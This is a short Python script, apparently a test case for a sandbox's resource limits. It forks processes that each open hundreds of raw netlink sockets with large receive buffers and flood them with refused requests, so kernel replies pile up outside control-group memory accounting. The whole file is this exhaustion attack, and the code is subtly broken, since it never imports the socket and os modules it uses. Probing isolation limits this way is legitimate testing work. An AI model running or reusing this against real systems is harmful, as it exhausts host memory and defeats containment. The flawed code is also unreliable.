# limits: memory=64 files=256 processes=16 time=20 network=1
# What the kernel answers waits in the socket of whoever asked, and no control group counts it. Six processes have 240 such
# sockets each, up to 600 MiB.
import struct, time

# A request that is refused, and comes back with the refusal.
REQUEST = struct.pack("IHHII", 15016, 16, 5, 0, 0) + bytes(15000)


def ask():
    sockets = []
    for _ in range(240):
        each = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
        each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        sockets.append(each)
        for _ in range(40):
            try:
                each.send(REQUEST, socket.MSG_DONTWAIT)
            except OSError:
                break
    time.sleep(1000)


print("up to 600 MiB in netlink sockets", flush=True)
for _ in range(6):
    if os.fork() == 0:
        ask()
time.sleep(1000)
